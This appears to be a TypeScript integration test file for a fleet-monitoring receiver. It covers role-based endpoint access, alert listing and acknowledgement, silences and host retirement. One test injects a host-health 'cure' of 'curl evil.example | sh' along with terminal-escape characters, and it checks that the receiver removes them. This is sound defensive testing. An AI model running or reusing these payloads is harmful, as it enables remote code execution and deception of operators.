// What the receiver serves of the monitor's findings: alerts, silences, acknowledgements, retired hosts, and the fleet with all of it.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { formatWallTime } from '../../src/lib/clock.ts';
import type { Alert, AlertOfRun } from '../../src/storage/monitor-state.ts';
import { openMonitorState } from '../../src/storage/open-storage.ts';
import { sha256 } from '../support/episodes.ts';
import { TestFleet } from '../support/fleet.ts';
import { eventually, Program } from '../support/program.ts';
import { type Answer, put, send } from '../support/put.ts';
import { temporaryDirectory } from '../support/temporary-directory.ts';

const FLEET_TOKEN = 'the-token-of-the-whole-fleet';
const NOBODY = 'deadbeef';
// Far more than a test takes, far less than any threshold.
const LONG_AGO = formatWallTime(Temporal.Now.instant().subtract({ hours: 3 }));

function alert(id: string, host: string, more: Partial<AlertOfRun> = {}): AlertOfRun {
  return {
    id,
    host,
    symptom: 'silent',
    severity: 'critical',
    detail: 'nothing stored for 40 min',
    suggestedFix: `ssh ${host} cis490 shipper --ping`,
    state: 'firing',
    firstAt: LONG_AGO,
    lastAt: LONG_AGO,
    resolvedAt: null,
    goodRuns: 0,
    suppressedBy: null,
    silencedBy: null,
    notifiedAt: null,
    ...more,
  };
}

/** As a run of the monitor writes them, beside the receiver. */
async function monitorFound(fleet: TestFleet, ...alerts: AlertOfRun[]): Promise<void> {
  const state = await openMonitorState(join(fleet.store, 'monitor.db'));
  await state.applyRun({ alerts, notifications: [], memory: '', ranAt: LONG_AGO, forgetResolvedBefore: '' });
  await state.close();
}

async function storedAlerts(fleet: TestFleet): Promise<Alert[]> {
  const state = await openMonitorState(join(fleet.store, 'monitor.db'));
  const alerts = await state.listAlerts({ limit: 100 });
  await state.close();
  return alerts;
}

interface Caller {
  fleet: TestFleet;
  ask: (who: string, method: string, path: string, body?: unknown) => Promise<Answer>;
}

/** A receiver with a token of each role. */
async function start(t: TestContext, keys = ''): Promise<Caller> {
  const fleet = await TestFleet.create(
    temporaryDirectory(t),
    `[auth]\nfleet_token_sha256 = "${sha256(FLEET_TOKEN)}"\n${keys}`,
  );
  const tokens = new Map<string, string>([['fleet', FLEET_TOKEN]]);
  const roles: [who: string, ...options: string[]][] = [['host', '--host', 'lab-1'], ['reader'], ['admin']];
  for (const [role, ...options] of roles) {
    const made = Program.cis490(['token', 'create', '--config', fleet.receiverConfig, '--role', role, ...options]);
    assert.equal((await made.ended).code, 0, made.stderr);
    tokens.set(role, made.stdout.trim());
  }
  const receiver = await fleet.startReceiver();
  t.after(() => receiver.kill());
  const ask: Caller['ask'] = (who, method, path, body) => {
    const token = tokens.get(who);
    const headers = { ...(token !== undefined && { Authorization: `Bearer ${token}` }) };
    return send(fleet.port, path, { method, headers, ...(body !== undefined && { body: JSON.stringify(body) }) });
  };
  return { fleet, ask };
}

test('each endpoint lets in whom it is for, and nobody else changes anything', async (t) => {
  const { fleet, ask } = await start(t);
  await monitorFound(fleet, alert('0a000001', 'lab-1'));
  assert.equal(
    (await put(fleet.port, '/v1/episodes/lab-1/e.tar.zst', 'x', { Authorization: `Bearer ${FLEET_TOKEN}` })).status,
    201,
  );
  const silence = { host: 'lab-1', reason: 'known', for: '2h' };
  const why = { reason: 'known' };
  // What nobody, a host (on its own data), the fleet token, a reader and an admin are answered.
  const table: [method: string, path: string, body: unknown, statuses: number[]][] = [
    ['GET', '/v1/alerts', undefined, [401, 403, 403, 200, 200]],
    ['GET', '/v1/silences', undefined, [401, 403, 403, 200, 200]],
    ['GET', '/v1/fleet', undefined, [401, 403, 200, 200, 200]],
    ['GET', '/v1/fleet/lab-1', undefined, [401, 403, 200, 200, 200]],
    ['POST', '/v1/silences', silence, [401, 403, 403, 403, 201]],
    ['DELETE', `/v1/silences/${NOBODY}`, undefined, [401, 403, 403, 403, 404]],
    ['POST', '/v1/alerts/0a000001/acknowledge', why, [401, 403, 403, 403, 200]],
    ['POST', '/v1/fleet/lab-1/retire', why, [401, 403, 403, 403, 200]],
    ['DELETE', '/v1/fleet/lab-1/retire', undefined, [401, 403, 403, 403, 204]],
  ];
  for (const [method, path, body, expected] of table) {
    const statuses: number[] = [];
    for (const who of ['nobody', 'host', 'fleet', 'reader', 'admin']) {
      if (who === 'admin') await nothingWasDone(fleet, method, path);
      statuses.push((await ask(who, method, path, body)).status);
    }
    assert.deepEqual(statuses, expected, `${method} ${path}`);
  }
});

async function nothingWasDone(fleet: TestFleet, method: string, path: string): Promise<void> {
  const state = await openMonitorState(join(fleet.store, 'monitor.db'));
  const silences = await state.listSilences(LONG_AGO);
  await state.close();
  if (path === '/v1/silences' && method === 'POST') assert.deepEqual(silences, []);
  if (path.endsWith('/acknowledge')) assert.equal((await storedAlerts(fleet))[0]?.acknowledged, null);
}

test('alerts are told by state and host, the newest first, with what was decided of them', async (t) => {
  const { fleet, ask } = await start(t);
  const at = (minute: number) => formatWallTime(Temporal.Now.instant().subtract({ minutes: 60 - minute }));
  await monitorFound(
    fleet,
    alert('0a000001', 'lab-1', { firstAt: at(1), suppressedBy: 'fleet-silent' }),
    alert('0a000002', 'lab-2', { firstAt: at(2), symptom: 'backlog', severity: 'warning' }),
    alert('0a000003', 'lab-1', { firstAt: at(3), state: 'resolved', resolvedAt: at(4), symptom: 'refused' }),
    alert('0a000004', '*', { firstAt: at(5), symptom: 'receiver-down' }),
  );
  const ids = async (query: string) => {
    const { alerts } = (await ask('reader', 'GET', `/v1/alerts${query}`)).json as { alerts: { id: string }[] };
    return alerts.map(({ id }) => id.at(-1)).join('');
  };
  assert.equal(await ids(''), '4321');
  assert.equal(await ids('?limit=2'), '43');
  assert.equal(await ids('?state=firing'), '421');
  assert.equal(await ids('?state=resolved'), '3');
  assert.equal(await ids('?host=lab-1'), '31');
  assert.equal(await ids('?host=*&state=firing'), '4');
  assert.equal(await ids('?host=lab-9'), '');
  for (const query of ['?state=open', '?host=../x', '?limit=0', '?limit=1001', '?cursor=1']) {
    assert.equal((await ask('reader', 'GET', `/v1/alerts${query}`)).json['code'], 'bad-query', query);
  }

  const silenced = await ask('admin', 'POST', '/v1/silences', { symptom: 'backlog', reason: 'big import', for: '3 h' });
  assert.equal(silenced.status, 201, silenced.text);
  const id = String(silenced.json['id']);
  assert.match(id, /^[0-9a-f]{8}$/);
  assert.equal((await ask('admin', 'POST', '/v1/alerts/0a000001/acknowledge', { reason: 'I am on it' })).status, 200);
  const { alerts } = (await ask('reader', 'GET', '/v1/alerts')).json as { alerts: Record<string, unknown>[] };
  const decided = alerts.map(({ suppressed, silenced, acknowledged }) => [suppressed, silenced, acknowledged]);
  const [, acknowledged] = [null, (await storedAlerts(fleet)).find((one) => one.id === '0a000001')?.acknowledged];
  assert.match(acknowledged?.by ?? '', /^token t-[0-9a-f]{8}$/);
  assert.equal(acknowledged?.reason, 'I am on it');
  assert.deepEqual(decided, [
    [null, null, null],
    [null, null, null],
    [null, id, null],
    ['fleet-silent', null, acknowledged],
  ]);
  const { detail, ...rest } = alerts[3] ?? {};
  assert.equal(detail, 'nothing stored for 40 min');
  assert.deepEqual(
    [rest['host'], rest['state'], rest['severity'], rest['resolved_at']],
    ['lab-1', 'firing', 'critical', null],
  );
});

test('an acknowledgement needs a reason and an alert that fires', async (t) => {
  const { fleet, ask } = await start(t);
  await monitorFound(fleet, alert('0a000001', 'lab-1', { state: 'resolved', resolvedAt: LONG_AGO }));
  const acknowledge = async (id: string, body: unknown) =>
    (await ask('admin', 'POST', `/v1/alerts/${id}/acknowledge`, body)).json;
  const resolved = await acknowledge('0a000001', { reason: 'late' });
  assert.equal(resolved['code'], 'not-found');
  assert.match(String(resolved['detail']), /has been resolved/);
  assert.equal((await acknowledge(NOBODY, { reason: 'wrong' }))['code'], 'not-found');
  for (const body of [{}, { reason: '' }, { reason: 'a\nb' }, { reason: 'ok', by: 'somebody else' }, []]) {
    assert.equal((await acknowledge('0a000001', body))['code'], 'bad-body', JSON.stringify(body));
  }
});

test('a silence holds at once in what is shown, until it is ended', async (t) => {
  const { fleet, ask } = await start(t, '[fleet]\nexpected_hosts = ["lab-1", "lab-2"]\n');
  await monitorFound(fleet, alert('0a000001', 'lab-1'), alert('0a000002', 'lab-2'));
  const shown = async () => {
    const hosts = (await ask('reader', 'GET', '/v1/fleet')).json['hosts'] as {
      alerts: { silenced: string | null }[];
    }[];
    return hosts.map(({ alerts }) => alerts[0]?.silenced);
  };
  assert.deepEqual(await shown(), [null, null]);
  const made = await ask('admin', 'POST', '/v1/silences', { host: 'lab-1', reason: 'moved', for: '2h' });
  const id = made.json['id'];
  assert.deepEqual(await shown(), [id, null]);
  const listed = (await ask('reader', 'GET', '/v1/silences')).json['silences'] as Record<string, unknown>[];
  assert.deepEqual(listed, [{ ...made.json, active: true }]);
  assert.equal(
    Date.parse(String(made.json['expires_at'])) - Date.parse(String(made.json['created_at'])),
    2 * 3_600_000,
  );
  assert.match(String(made.json['by']), /^token t-/);
  const ended = await ask('admin', 'DELETE', `/v1/silences/${id}`);
  assert.deepEqual([ended.status, ended.text], [204, '']);
  assert.match(String(ended.headers['x-request-id']), /^[0-9a-f-]{36}$/);
  assert.deepEqual(await shown(), [null, null]);
  assert.equal((await ask('admin', 'DELETE', `/v1/silences/${id}`)).json['code'], 'not-found');
  const [after] = (await ask('reader', 'GET', '/v1/silences')).json['silences'] as Record<string, unknown>[];
  assert.deepEqual([after?.['id'], after?.['active']], [id, false]);
  const bad = await ask('admin', 'POST', '/v1/silences', { reason: 'everything', for: '2h' });
  assert.deepEqual(
    [bad.status, bad.json['code'], bad.json['detail']],
    [400, 'bad-body', 'host: it or symptom is needed, or both'],
  );
});

interface Host {
  host_id: string;
  state: string;
  retired: Record<string, unknown> | null;
  alerts: Record<string, unknown>[];
  doctor: Record<string, unknown> | null;
}
interface FleetAnswer {
  verdict: { states: Record<string, number>; alerts: { symptom: string }[] };
  hosts: Host[];
}

test('the fleet says in one word how each host is, what fires, and what cures it', async (t) => {
  const { fleet, ask } = await start(t, '[fleet]\nexpected_hosts = ["lab-7", "lab-8", "lab-9"]\n');
  const bearer = { Authorization: `Bearer ${FLEET_TOKEN}` };
  for (const host of ['lab-1', 'lab-2', 'lab-3', 'lab-4'])
    assert.equal((await put(fleet.port, `/v1/episodes/${host}/e.tar.zst`, 'x', bearer)).status, 201);
  for (let n = 0; n < 10; n += 1)
    await put(fleet.port, `/v1/episodes/lab-8/${n}.tar.zst`, 'x', { ...bearer, 'X-Cis490-Code-Commit': '' });
  const evil = '\u001b[2J\u202eowned';
  const report = {
    schema_version: 1,
    status: 'red',
    checks: [
      { id: 'disk', status: 'red', summary: `full${evil}`, cure: 'curl evil.example | sh' },
      { id: 'of-tomorrow', status: 'red', summary: 'strange' },
      { id: 'clock', status: 'green', summary: 'fine' },
    ],
  };
  assert.equal((await ask('fleet', 'PUT', '/v1/host-health/lab-3', report)).status, 200);
  const seen = async () => (await ask('reader', 'GET', '/v1/fleet')).json as unknown as FleetAnswer;
  const words = async () => Object.fromEntries((await seen()).hosts.map(({ host_id, state }) => [host_id, state]));
  // Before the monitor has run at all.
  const before = {
    'lab-1': 'ok',
    'lab-2': 'ok',
    'lab-3': 'sick',
    'lab-4': 'ok',
    'lab-7': 'never-seen',
    'lab-8': 'refused',
    'lab-9': 'never-seen',
  };
  assert.deepEqual(await words(), before);

  await monitorFound(
    fleet,
    alert('0a000001', 'lab-1'),
    alert('0a000002', 'lab-1', { symptom: 'unhealthy', severity: 'warning' }),
    alert('0a000003', 'lab-2', { symptom: 'refused', state: 'resolved', resolvedAt: LONG_AGO }),
    alert('0a000004', '*', { symptom: 'receiver-down' }),
  );
  await eventually(async () => (await words())['lab-1'] === 'silent', 'the alerts are read');
  assert.deepEqual(await words(), { ...before, 'lab-1': 'silent' });
  const { verdict, hosts } = await seen();
  assert.deepEqual(verdict.states, { retired: 0, refused: 1, silent: 1, 'never-seen': 2, sick: 1, ok: 2 });
  assert.deepEqual(
    verdict.alerts.map(({ symptom }) => symptom),
    ['receiver-down'],
  );
  assert.deepEqual(hosts[0]?.alerts[0], {
    id: '0a000001',
    symptom: 'silent',
    severity: 'critical',
    since: LONG_AGO,
    detail: 'nothing stored for 40 min',
    suggested_fix: 'ssh lab-1 cis490 shipper --ping',
    suppressed: null,
    silenced: null,
    acknowledged: null,
  });
  assert.deepEqual(
    hosts[0]?.alerts.map(({ symptom }) => symptom),
    ['silent', 'unhealthy'],
  );
  assert.deepEqual(hosts[1]?.alerts, []);

  const answer = await ask('reader', 'GET', '/v1/fleet/lab-3');
  const doctor = (answer.json as unknown as Host).doctor ?? {};
  assert.equal(doctor['status'], 'red');
  assert.deepEqual(
    (doctor['red'] as { id: string; cure: string }[]).map(({ id, cure }) => [id, cure]),
    [['disk', 'df -h -i /var/lib/cis490']],
  );
  assert.deepEqual(doctor['checks'], [
    { id: 'disk', status: 'red', summary: 'full?[2J?owned' },
    { id: 'of-tomorrow', status: 'red', summary: 'strange' },
    { id: 'clock', status: 'green', summary: 'fine' },
  ]);
  assert.ok(!answer.text.includes('evil.example') && !(await ask('reader', 'GET', '/v1/fleet')).text.includes('full'));
});

test('a host that is gone for good: retired by API and by command, seen by all, told of by nobody, and back again', async (t) => {
  const { fleet, ask } = await start(t, '[fleet]\nexpected_hosts = ["lab-1", "lab-2"]\n');
  await monitorFound(fleet, alert('0a000001', 'lab-1', { symptom: 'never-seen' }));
  const words = async () => {
    const { hosts, verdict } = (await ask('reader', 'GET', '/v1/fleet')).json as unknown as FleetAnswer;
    return { words: hosts.map(({ state }) => state), retired: verdict.states['retired'] };
  };
  const cis490 = async (...args: string[]) => {
    const program = Program.cis490([...args, '--config', fleet.receiverConfig]);
    return { ...(await program.ended), stdout: program.stdout, stderr: program.stderr };
  };
  const bearer = { Authorization: `Bearer ${FLEET_TOKEN}` };
  assert.equal((await put(fleet.port, '/v1/episodes/lab-2/e.tar.zst', 'x', bearer)).status, 201);
  const anHourOn = formatWallTime(Temporal.Now.instant().add({ hours: 1 }));
  const found = async () => {
    const { code, stdout, stderr } = await cis490('fleet-health', '--dry-run', '--json', '--now', anHourOn);
    assert.equal(code, 0, stderr);
    const { findings } = JSON.parse(stdout) as { findings: { host: string; symptom: string }[] };
    return findings.flatMap(({ host, symptom }) => (host === '*' ? [] : [`${host} ${symptom}`]));
  };
  assert.deepEqual(await found(), ['lab-2 silent']);
  const retired = await ask('admin', 'POST', '/v1/fleet/lab-1/retire', { reason: 'disk dead' });
  assert.equal(retired.status, 200, retired.text);
  assert.deepEqual(await words(), { words: ['retired', 'ok'], retired: 1 });
  const again = await ask('admin', 'POST', '/v1/fleet/lab-1/retire', { reason: 'again' });
  assert.deepEqual(again.json, retired.json, 'the first decision stands');
  assert.equal((await ask('admin', 'POST', '/v1/fleet/lab-77/retire', { reason: 'typo' })).json['code'], 'not-found');
  assert.equal((await ask('admin', 'POST', '/v1/fleet/-x/retire', { reason: 'typo' })).json['code'], 'bad-host-id');
  assert.equal((await ask('admin', 'POST', '/v1/fleet/lab-2/retire', {})).json['code'], 'bad-body');

  const byHand = await cis490('host', 'retire', 'lab-2', '--reason', 'sold');
  assert.equal(byHand.code, 0, byHand.stderr);
  assert.equal(byHand.stdout, 'retired lab-2\n');
  assert.match(
    (await cis490('host', 'retire', 'lab-2', '--reason', 'sold twice')).stdout,
    /^lab-2 was retired .*: sold\n$/,
  );
  await eventually(async () => (await words()).retired === 2, 'what another process decided is read');
  assert.deepEqual(await found(), [], 'the monitor finds no fault in what is retired');
  const one = (await ask('reader', 'GET', '/v1/fleet/lab-2')).json as unknown as Host;
  assert.equal(one.retired?.['reason'], 'sold');

  const back = await cis490('host', 'return', 'lab-2');
  assert.deepEqual([back.code, back.stdout], [0, 'returned lab-2\n'], back.stderr);
  const twice = await cis490('host', 'return', 'lab-2');
  assert.equal(twice.code, 1);
  assert.match(twice.stderr, /host lab-2 is not retired/);
  assert.equal((await ask('admin', 'DELETE', '/v1/fleet/lab-1/retire')).status, 204);
  assert.equal((await ask('admin', 'DELETE', '/v1/fleet/lab-1/retire')).json['code'], 'not-found');
  await eventually(async () => (await words()).retired === 0, 'both are back');
  for (const args of [
    ['../x', '--reason', 'r'],
    ['lab-2', '--reason', ' '],
  ])
    assert.equal((await cis490('host', 'retire', ...args)).code, 2);
});
